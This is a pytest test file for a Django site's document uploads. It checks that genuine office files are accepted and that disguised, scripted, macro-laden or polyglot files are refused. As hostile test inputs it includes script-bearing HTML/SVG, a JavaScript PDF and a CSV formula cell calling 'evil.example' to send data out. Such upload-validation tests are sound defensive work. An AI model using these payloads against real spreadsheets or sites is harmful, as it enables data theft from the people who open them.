import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.test import Client

from documents.models import Document
from news.models import Article, ShareLink

from . import files, pages
from .factories import ArticleFactory, DocumentFactory
from .files import upload
from .test_public_pages import _count_queries

pytestmark = pytest.mark.django_db


def document_form(**overrides):
    return {"title": "Annual report 2025", "published_on": "03/03/2025", "description": "",
            **overrides}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "file_type"),
    [
        ("report.pdf", files.pdf(), "PDF"),
        ("Report.PDF", files.pdf_from_writer(), "PDF"),
        ("minutes.docx", files.office("docx"), "DOCX"),
        ("budget.xlsx", files.office("xlsx"), "XLSX"),
        ("slides.pptx", files.office("pptx"), "PPTX"),
        ("minutes.odt", files.opendocument("text"), "ODT"),
        ("budget.ods", files.opendocument("spreadsheet"), "ODS"),
        ("slides.odp", files.opendocument("presentation"), "ODP"),
        ("figures.csv", b"year,studies\n2021,1475\n", "CSV"),
    ],
)
def test_staff_upload_accepted_documents_with_type_and_size_from_content(
    comms_client, name, content, file_type
):
    response = comms_client.post(
        "/admin/documents/document/add/", document_form(file=upload(name, content, "text/html"))
    )
    assert response.status_code == 302, pages.errors(response)
    document = Document.objects.get()
    assert document.file_type == file_type
    assert document.size == len(content)
    assert document.file.name.startswith("documents/")
    assert name.split(".")[0] not in document.file.name  # stored under a generated name


BAD_UPLOADS = {
    "web page named as a PDF": (
        "report.pdf",
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "web page code",
    ),
    "SVG": ("chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "SVG"),
    "HTML table named CSV": ("data.csv", b"<table><tr><td>1</td></tr></table>", "web page"),
    "Windows program": ("setup.pdf", b"MZ\x90\x00\x03" + bytes(range(256)) * 4, "not a type"),
    "Linux program": ("tool.csv", b"\x7fELF\x02\x01\x01" + bytes(200), "not a type"),
    "PNG image": ("photo.pdf", b"\x89PNG\r\n\x1a\n" + bytes(100), "not a type"),
    "PDF named as Word": ("minutes.docx", files.pdf(), "really a file of type “PDF”"),
    "Word named as PDF": ("report.pdf", files.office("docx"), "“Word document”"),
    "PDF without a suffix": ("report", files.pdf(), "Rename it to end in “.pdf”"),
    "CSV named as text": ("notes.txt", b"a,b\n1,2\n", "Rename it to end in “.csv”"),
    "damaged PDF": ("report.pdf", b"%PDF-1.7\nthis is not really a PDF\n", "damaged"),
    "truncated PDF": ("report.pdf", files.pdf()[:300], "damaged"),
    "PDF that runs JavaScript": (
        "report.pdf",
        files.pdf_from_writer(javascript="app.alert(1)"),
        "JavaScript",
    ),
    "password-protected PDF": (
        "report.pdf",
        files.pdf_from_writer(password="secret"),
        "password-protected",
    ),
    "PDF and zip at once": ("report.pdf", files.pdf() + files.office("docx"), "two formats"),
    "zip behind a PDF header": (
        "report.docx",
        b"PK\x03\x04%PDF-1.4" + files.office("docx"),
        "two formats",
    ),
    "Word with macros": ("minutes.docx", files.office("docx", macros=True), "macros"),
    "OpenDocument with scripts": (
        "minutes.odt",
        files.zip_of(
            mimetype="application/vnd.oasis.opendocument.text",
            **{"Basic/Standard/Module1.xml": "<module/>"},
        ),
        "macros",
    ),
    "plain zip archive": ("minutes.docx", files.zip_of(**{"a.txt": "hello"}), "zip archive"),
    "broken zip": ("minutes.docx", b"PK\x03\x04" + bytes(100), "not a type"),
    "empty file": ("report.pdf", b"", "empty"),
    "text that is not UTF-8": ("data.csv", "año,€\n".encode("cp1252"), "not a type"),
}


@pytest.mark.parametrize(("name", "content", "message"), BAD_UPLOADS.values(), ids=BAD_UPLOADS)
def test_unsafe_or_mislabelled_uploads_are_refused_with_a_clear_message(
    comms_client, name, content, message
):
    response = comms_client.post(
        "/admin/documents/document/add/",
        document_form(file=upload(name, content, "application/pdf")),
    )
    assert response.status_code == 200
    errors = pages.errors(response)["file"]
    assert message in " ".join(errors)
    assert not Document.objects.exists()


def test_a_file_over_the_size_limit_is_refused_saying_the_limit(comms_client, settings):
    settings.DOCUMENT_MAX_BYTES = 1000
    response = comms_client.post(
        "/admin/documents/document/add/", document_form(file=upload("big.pdf", files.pdf()))
    )
    assert "the largest document accepted is 1000\xa0bytes" in " ".join(
        pages.errors(response)["file"]
    )
    assert "Up to 1000\xa0bytes" in response.content.decode()  # the limit is in the help text too
    assert not Document.objects.exists()


def test_a_bad_replacement_file_keeps_the_saved_document_and_what_was_typed(comms_client):
    document = DocumentFactory(title="Annual report 2024")
    stored = document.file.name
    form = pages.form(comms_client.get(f"/admin/documents/document/{document.pk}/change/"),
                      field="title")  # fmt: skip
    response = form.submit(comms_client, title="Annual report 2024, corrected",
                           file=upload("report.pdf", b"<html>not a pdf</html>"))  # fmt: skip
    assert response.status_code == 200
    assert "web page code" in " ".join(pages.errors(response)["file"])
    assert pages.form(response, field="title").value("title") == "Annual report 2024, corrected"
    document.refresh_from_db()
    assert (document.title, document.file.name, document.file_type) == (
        "Annual report 2024",
        stored,
        "PDF",
    )
    assert document.file.read().startswith(b"%PDF-")


def test_editing_the_title_keeps_the_file(comms_client):
    document = DocumentFactory()
    response = comms_client.post(
        f"/admin/documents/document/{document.pk}/change/", document_form(title="Renamed")
    )
    assert response.status_code == 302
    document.refresh_from_db()
    assert (document.title, document.file_type) == ("Renamed", "PDF")


def test_no_path_stores_a_file_we_do_not_accept():
    with pytest.raises(ValidationError, match="web page code"):
        Document.objects.create(title="Sneaky", file=ContentFile(b"<svg/>", name="x.pdf"))
    assert not Document.objects.exists()


def test_documents_admin_lists_type_and_size_and_searches(comms_client):
    DocumentFactory(title="Annual report 2025", description="Our year in numbers")
    DocumentFactory(title="Budget", file=ContentFile(files.office("xlsx"), name="budget.xlsx"))
    page = comms_client.get("/admin/documents/document/?q=numbers").content.decode()
    assert "Annual report 2025" in page
    assert "Budget" not in page
    listing = comms_client.get("/admin/documents/document/?file_type__exact=XLSX")
    assert pages.result_names(listing) == ["Budget"]
    assert "KB" in comms_client.get("/admin/documents/document/").content.decode()


def test_article_page_offers_its_documents_with_type_and_size(client):
    article = ArticleFactory()
    document = DocumentFactory(title="Report of activity 2020 to 2022", description="Two years.")
    article.documents.set([document])
    page = client.get(article.get_absolute_url()).content.decode()
    assert '<h2 id="downloads-heading">Downloads</h2>' in page
    size = document.type_and_size
    assert size.startswith("PDF, ")
    assert size.endswith("KB")
    assert f'Report of activity 2020 to 2022 <span class="downloads__meta">({size})' in page
    assert "Two years." in page


def test_article_without_documents_has_no_downloads_section(client):
    assert "Downloads" not in client.get(ArticleFactory().get_absolute_url()).content.decode()


def test_download_is_an_attachment_named_after_the_title(client):
    article = ArticleFactory()
    document = DocumentFactory(title="Annual report 2025")
    article.documents.set([document])
    response = client.get(document.get_absolute_url())
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="annual-report-2025.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert b"".join(response.streaming_content) == document.file.open("rb").read()


def test_documents_of_unpublished_articles_are_not_public(comms_client):
    draft = ArticleFactory(status=Article.Status.DRAFT)
    document = DocumentFactory()
    draft.documents.set([document])
    assert Client().get(document.get_absolute_url()).status_code == 404
    assert comms_client.get(document.get_absolute_url()).status_code == 200


def test_a_document_whose_file_is_missing_is_not_found(client):
    article = ArticleFactory()
    document = DocumentFactory()
    article.documents.set([document])
    document.file.storage.delete(document.file.name)
    assert client.get(document.get_absolute_url()).status_code == 404


def test_article_page_queries_do_not_grow_with_documents(client):
    one, many = ArticleFactory(), ArticleFactory()
    one.documents.set([DocumentFactory()])
    many.documents.set(DocumentFactory.create_batch(8))
    # Another article's page first keeps what every page looks up once (the navigation).
    client.get(ArticleFactory().get_absolute_url())
    assert _count_queries(client, one.get_absolute_url()) == _count_queries(
        client, many.get_absolute_url()
    )


def test_a_reviewer_with_a_share_link_can_download_the_drafts_documents(client):
    draft = ArticleFactory(status=Article.Status.DRAFT)
    other = ArticleFactory(status=Article.Status.DRAFT)
    document = DocumentFactory(title="Embargoed report")
    draft.documents.set([document])
    link, other_link = (
        ShareLink.objects.create(article=draft),
        ShareLink.objects.create(article=other),
    )

    page = client.get(link.get_absolute_url()).content.decode()
    url = f"{document.get_absolute_url()}?preview={link.token}"
    assert f'href="{url}"' in page
    assert client.get(url).status_code == 200
    assert client.get(document.get_absolute_url()).status_code == 404
    assert (
        client.get(f"{document.get_absolute_url()}?preview={other_link.token}").status_code == 404
    )
    assert client.get(f"{document.get_absolute_url()}?preview=forged").status_code == 404
    link.delete()  # revoked
    assert client.get(url).status_code == 404


def test_documents_cannot_be_fetched_from_the_uploads_folder(client):
    """Only the download page serves documents: it checks their article is live."""
    document = DocumentFactory()
    assert document.file.name.startswith("documents/")
    assert client.get(f"/media/{document.file.name}").status_code == 404


LINK = "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A %s >>"

# Files that look a little like the hostile ones but are ordinary: (name, content, type).
ORDINARY_LOOKALIKES = {
    "signed numbers, phone numbers and dashes": (
        "figures.csv",
        b"trial,change,phone,note\nA,-3.5,+44 121 414 1234,-\nB,+2,-1,234.50,\n"
        b'C,1e-5,"-1,234.50",-12%\n',
        "CSV",
    ),
    "a byte-order mark and quoted text": (
        "figures.csv",
        b'\xef\xbb\xbfname,quote\nTrial,"She said ""=yes"" later"\n',
        "CSV",
    ),
    "a semicolon file with decimal commas": ("figures.csv", b"year;change\n2021;-3,5\n", "CSV"),
    "a tab-separated file with an empty first column": (
        "figures.csv",
        b"\tyear\tchange\nA\t2021\t-3.5\n",
        "CSV",
    ),
    "a PDF with a web link": (
        "report.pdf",
        files.pdf_by_hand(
            page="/Annots [4 0 R]",
            objects=[LINK % "<< /S /URI /URI (https://www.nhs.uk/) >>"],
        ),
        "PDF",
    ),
    "a PDF whose objects are in a compressed stream": (
        "report.pdf",
        files.pdf_by_hand(
            page="/Annots [4 0 R]",
            objects=[LINK % "<< /S /GoTo /D [3 0 R /Fit] >>", "(JavaScript is only a word)"],
            object_stream=True,
        ),
        "PDF",
    ),
    "a PDF whose objects refer to each other in a loop": (
        "report.pdf",
        files.pdf_by_hand(objects=["<< /Next 4 0 R /Also [4 0 R 5 0 R] >>", "[4 0 R]"]),
        "PDF",
    ),
}


@pytest.mark.parametrize(
    ("name", "content", "file_type"), ORDINARY_LOOKALIKES.values(), ids=ORDINARY_LOOKALIKES
)
def test_ordinary_files_that_resemble_hostile_ones_are_accepted(
    comms_client, name, content, file_type
):
    form = pages.form(comms_client.get("/admin/documents/document/add/"), field="file")
    response = form.submit(comms_client, title="Figures", file=upload(name, content))
    assert response.status_code == 302, pages.errors(response)
    assert Document.objects.get().file_type == file_type


def test_a_formula_message_says_where_the_cell_is_and_what_it_starts_with(comms_client):
    form = pages.form(comms_client.get("/admin/documents/document/add/"), field="file")
    content = b'name,link\nTrial,"=HYPERLINK(""https://evil.example/steal?data="",""Results"")"\n'
    response = form.submit(comms_client, title="Figures", file=upload("figures.csv", content))
    (error,) = pages.errors(response)["file"]
    assert error == (
        "The cell in row 2, column B starts with “=”, so spreadsheet programs would run it "
        'as a formula: “=HYPERLINK("https://evil.example/steal?d…”. Change it so that it '
        "does not start with “=” and upload the file again."
    )
